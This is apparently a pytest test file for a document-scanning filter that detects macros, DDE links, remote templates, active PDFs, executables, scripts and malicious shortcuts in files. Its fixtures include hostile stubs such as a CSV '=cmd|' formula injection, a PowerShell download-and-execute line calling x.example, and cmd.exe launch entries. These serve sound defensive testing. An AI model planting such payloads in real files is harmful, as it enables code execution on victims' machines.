"""What a file does, recognised by its content under any name."""

import pytest

from filters.extract import Budget, Extracted, extract
from tests.filters.extract.cfb import compound
from tests.filters.extract.documents import archive
from tests.filters.extract.formats import iso, link, odf, onenote
from tests.filters.extract.office97 import doc, native, xls

TYPES = ("[Content_Types].xml", b"<Types/>")
RELS = '<Relationships><Relationship Id="a" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'


def look(content: bytes, name: str = "a.dat") -> Extracted:
    return extract(name, "", content, Budget())


def word(**members: str) -> bytes:
    return archive(
        TYPES, ("word/document.xml", b"<w:p>x</w:p>"), *((n, d.encode()) for n, d in members.items())
    )


@pytest.mark.parametrize(
    ("content", "sign"),
    [
        (word(**{"word/vbaProject.bin": "x"}), "macro"),
        (doc("x", macros=True), "macro"),
        (odf("odt", "x", macro=True), "macro"),
        (xls("x", xlm=True), "xlm"),
        (
            archive(TYPES, ("xl/workbook.xml", b"<w/>"), ("xl/macrosheets/sheet1.xml", b"<a>=EXEC()</a>")),
            "xlm",
        ),
        (
            word(
                **{
                    "word/footer1.xml": '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x "y"</w:instrText>'
                }
            ),
            "dde",
        ),
        (
            archive(
                TYPES,
                ("xl/workbook.xml", b"<w/>"),
                ("xl/externalLinks/externalLink1.xml", b"<x><ddeLink/></x>"),
            ),
            "dde",
        ),
        (b"name,note\r\n1,=cmd|' /C calc'!A0\r\n", "dde"),
        (
            word(
                **{
                    "word/_rels/settings.xml.rels": RELS.format(
                        "attachedTemplate", "https://x.example/t.dotm"
                    )
                }
            ),
            "remote_template",
        ),
        (
            word(**{"word/_rels/document.xml.rels": RELS.format("oleObject", "https://x.example/a.html!")}),
            "remote_object",
        ),
        (b"{\\rtf1{\\*\\template http://x.example/a}x}", "remote_template"),
        (b"{\\rtf1{\\object\\objupdate{\\*\\objdata 01}}}", "ole_object"),
        (compound({"Equation Native": b"x", "WordDocument": doc("x")[512:1600]}), "ole_object"),
        (b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(x)>>endobj", "active_pdf"),
        (b"%PDF-1.7\n1 0 obj<</S/#4aava#53cript>>endobj", "active_pdf"),
        (b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj", "pdf_launch"),
        (b"MZ" + bytes(200), "executable"),
        (b"\x7fELF" + bytes(200), "executable"),
        (b"\xcf\xfa\xed\xfe" + bytes(200), "executable"),
        (b"ITSF\x03\0\0\0" + bytes(200), "executable"),
        (b"MZ" + bytes(600) + archive(("a.txt", b"x")), "self_extracting"),
        (iso(("a.exe", b"MZ" + bytes(100))), "disk_image"),
        (b"conectix" + bytes(1000), "disk_image"),
        (onenote("x", b"MZ" + bytes(100)), "embedded_file"),
        (
            b"$x = New-Object Net.WebClient\r\nInvoke-Expression $x.DownloadString('http://x.example')\r\n",
            "script",
        ),
        (b'Set s = CreateObject("WScript.Shell")\r\nDim a\r\nOn Error Resume Next\r\n', "script"),
        (b"@echo off\r\nstart calc\r\n", "script"),
        (b"<?xml version='1.0'?><job><script language='JScript'>x</script></job>", "script"),
        (b"<html><hta:application id=a><script>x</script></html>", "script"),
        (b"[InternetShortcut]\r\nURL=file://x.example/a\r\n", "shortcut"),
        (
            b"<?xml version='1.0'?><libraryDescription><url>\\\\x.example\\a</url></libraryDescription>",
            "shortcut",
        ),
        (link("..\\cmd.exe", "/c calc"), "shortcut"),
    ],
)
def test_a_sign_is_seen_under_any_name_and_inside_archives(content: bytes, sign: str) -> None:
    assert sign in look(content).traits
    inside = look(archive(("photo.jpg", content)))
    assert [s for s in inside.signs if s.name == sign and s.place.startswith("photo.jpg")]


@pytest.mark.parametrize(
    "text",
    [
        "PowerShell の Invoke-WebRequest について教えてください。\n表の関数は var です。\n",
        "議事録\n1. start は 10 時\n2. set を確認\n",
        "a,b\n1,=SUM(A1:A2)\n",
        "メールで calc を開きます | ! \n",
    ],
)
def test_a_letter_about_such_things_has_none(text: str) -> None:
    assert look(text.encode()).traits == set()


def test_target_and_arguments_of_a_shortcut_are_quoted() -> None:
    (sign,) = look(link("..\\cmd.exe", "/c calc")).signs
    assert sign.quote == "..\\cmd.exe /c calc"


def test_an_object_in_a_document_is_read() -> None:
    found = look(
        compound(
            {
                "ObjectPool/_1/\x01Ole10Native": native("請求書.exe", b"MZ" + bytes(100)),
                "WordDocument": doc("x")[512:1600],
            }
        )
    )
    assert ("請求書.exe", "exe") in [(m.path, m.kind) for m in found.members]


def test_declared_and_real_type_are_both_reported() -> None:
    found = extract("a.pdf", "image/png", b"MZ" + bytes(100), Budget())
    assert (found.declared, found.extension, found.kind) == ("image/png", "pdf", "exe")
